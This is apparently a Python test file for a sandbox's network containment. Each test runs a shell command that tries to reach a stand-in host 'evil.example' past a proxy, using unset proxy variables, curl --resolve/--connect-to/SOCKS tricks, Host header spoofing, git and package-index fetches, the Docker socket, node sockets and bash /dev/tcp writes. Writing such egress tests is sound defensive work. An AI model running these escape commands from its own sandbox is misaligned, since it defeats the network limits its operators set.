"""With common programs and changed settings."""

NO_PROXY = {name: "" for name in ("http_proxy", "https_proxy", "HTTP_PROXY", "HTTPS_PROXY", "ALL_PROXY")}


@escape
def curl_without_settings():
    return sh("curl -sm 4 http://evil.example/; curl -skm 4 https://evil.example/; true")


@escape
def curl_without_a_proxy():
    return sh("curl -sm 4 http://evil.example/; curl -skm 4 https://evil.example/; true", **NO_PROXY)


@escape
def curl_with_exceptions_from_the_proxy():
    return sh(f"curl -sm 4 http://evil.example:{PORT}/; true", NO_PROXY="*", no_proxy="*")


@escape
def curl_with_addresses_of_its_own():
    lines = [f"curl -sm 4 --noproxy '*' --resolve evil.example:{PORT}:{address} http://evil.example:{PORT}/"
             for address in HOSTS[:3]]
    return sh("; ".join(lines) + "; true")


@escape
def curl_with_another_host_to_connect_to():
    return sh(f"curl -sm 4 --connect-to ::evil.example:{PORT} http://allowed.example/; true")


@escape
def curl_with_another_proxy():
    lines = [f"curl -sm 4 -x {kind}://{HOSTS[0]}:{PORT} http://evil.example/"
             for kind in ("http", "socks4a", "socks5h")]
    return sh("; ".join(lines) + "; true")


@escape
def curl_with_the_proxy_as_socks():
    return sh("curl -sm 4 -x socks5h://127.0.0.1:3128 http://evil.example/; true")


@escape
def curl_with_a_proxy_behind_the_proxy():
    return sh("curl -skm 4 --preproxy socks5h://127.0.0.1:3128 -x http://evil.example:80 http://evil.example/; true")


@escape
def curl_with_another_host_header():
    return sh("curl -sm 4 -H 'Host: evil.example' http://allowed.example/; true")


@escape
def curl_with_other_protocols():
    kinds = ("ftp", "gopher", "telnet", "ldap", "smtp", "tftp", "rtsp", "mqtt", "dict")
    return sh("; ".join(f"curl -sm 1 --noproxy '*' {kind}://{HOSTS[0]}:{PORT}/" for kind in kinds) + "; true")


@escape
def curl_with_the_engine():
    return sh("curl -sm 4 --unix-socket /var/run/docker.sock http://localhost/containers/json; true")


@escape
def wget_without_a_proxy():
    return sh("wget -qO- --no-proxy -T 3 -t 1 http://evil.example/; true")


@escape
def git_of_every_kind():
    addresses = (f"git://{HOSTS[0]}:{PORT}/x", "https://evil.example/x.git", f"http://{HOSTS[0]}:{PORT}/x.git",
                 f"ssh://{HOSTS[0]}:{PORT}/x")
    return sh("; ".join(f"timeout 3 git clone -q {address} /tmp/x" for address in addresses) + "; true")


@escape
def git_without_a_proxy():
    return sh("timeout 4 git -c http.proxy= -c http.sslVerify=false clone -q https://evil.example/x.git /tmp/y; true",
              **NO_PROXY)


@escape
def node_without_settings():
    script = "fetch('http://evil.example/').then(r => r.text()).then(console.log, e => console.log(String(e.cause)))"
    return sh(f"node -e \"{script}\"")


@escape
def node_with_a_socket():
    script = f"require('net').connect({PORT}, '{HOSTS[0]}').on('error', e => console.log(e.code))"
    return sh(f"timeout 3 node -e \"{script}\"; true")


@escape
def packages_from_elsewhere():
    lines = ("timeout 6 pip download -q --no-deps --retries 0 --index-url https://evil.example/simple/ x",
             "timeout 6 npm view --fetch-retries=0 --registry https://evil.example/ x")
    return sh("; ".join(lines) + "; true")


@escape
def bash_with_its_own_sockets():
    return sh(f"bash -c 'for a in {' '.join(HOSTS[:4])}; do echo x > /dev/tcp/$a/{PORT}; echo x > /dev/udp/$a/{PORT}; done'; true")
